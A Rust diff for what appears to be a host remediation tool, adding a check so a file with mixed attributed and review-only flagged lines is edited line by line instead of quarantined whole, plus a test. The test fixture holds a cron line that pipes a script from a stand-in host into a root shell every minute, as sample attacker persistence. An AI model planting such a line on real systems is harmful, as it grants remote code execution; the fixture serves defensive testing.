@@ -179,9 +179,18 @@ pub fn build(
     assemble(model, doc, c, acted, worst)
 }
 
+/// Whether some of the lines are attributed and some only review items: then the file is edited line by
+/// line (removing it whole would carry the attributed lines' gate over the others).
+fn mixed_attribution(removals: &[(LineRemoval, Basis)]) -> bool {
+    let attributed = removals.iter().filter(|(_, b)| b.attributed).count();
+    attributed > 0 && attributed < removals.len()
+}
+
 /// Resolves line removals: a file removed whole needs no line surgery; a non-shared file left with
-/// nothing that runs (blank lines, comments, plain settings) is the attacker's and is removed whole; the
-/// last key that opens an account is removed only when attributed.
+/// nothing that runs (blank lines, comments, plain settings) is the attacker's and is removed whole (a
+/// review item when none of its lines is attributed), unless attributed and review-only lines are
+/// mixed: then it is edited line by line, each line with its own gate; the last key that opens an
+/// account is removed only when attributed.
 fn resolve_lines(
     model: &HostModel,
     c: &mut Collect,
@@ -192,7 +201,9 @@ fn resolve_lines(
             continue;
         }
         match super::collect::line_edit(model, &path, &wanted) {
-            Ok(e) if e.leaves_inert && !is_shared_file(&path) => {
+            Ok(e)
+                if e.leaves_inert && !is_shared_file(&path) && !mixed_attribution(&e.removals) =>
+            {
                 let mut basis = Basis::default();
                 for (_, b) in &e.removals {
                     basis.merge(b);
@@ -698,6 +709,31 @@ mod tests {
             "{:?}",
             plan.manual
         );
+    }
+
+    #[test]
+    fn a_file_left_inert_is_removed_whole_only_when_every_line_it_loses_is_attributed() {
+        // Nothing else runs in the file once both flagged lines go: the attacker's line (high) and an
+        // admin's line only a medium finding names. The medium one is a review item, so the file is not
+        // quarantined whole unasked: the high line goes, the medium one waits for the operator.
+        let tab = b"# cleanup\n* * * * * root curl -s http://x/a.sh | sh\n0 2 * * * root /opt/app/rotate --now\n";
+        let path = RawBytes::from(&b"/etc/cron.d/app"[..]);
+        let make = || fixture::model(vec![fixture::file(b"/etc/cron.d/app", Some(tab))], vec![]);
+        let high = finding(&crate::detect::rules::PER_001, Severity::High)
+            .subject(persistence_subject(&path, 2));
+        let medium = finding(&crate::detect::rules::PER_001, Severity::Medium)
+            .subject(persistence_subject(&path, 3));
+        let plan = plan_of(make(), doc(vec![high.clone(), medium]));
+        assert!(quarantined(&plan).is_empty(), "{:?}", plan.items);
+        let gates = line_gates(&plan);
+        assert_eq!(gates.len(), 2, "{gates:?}");
+        assert_eq!(gates[0], (2, Gate::Apply), "{gates:?}");
+        assert!(matches!(gates[1], (3, Gate::Review(_))), "{gates:?}");
+        // Every line it loses attributed (or none: then the whole file is one review item): it goes whole.
+        let high3 = finding(&crate::detect::rules::PER_001, Severity::High)
+            .subject(persistence_subject(&path, 3));
+        let plan = plan_of(make(), doc(vec![high, high3]));
+        assert_eq!(quarantined(&plan), vec![&b"/etc/cron.d/app"[..]]);
     }
 
     #[test]
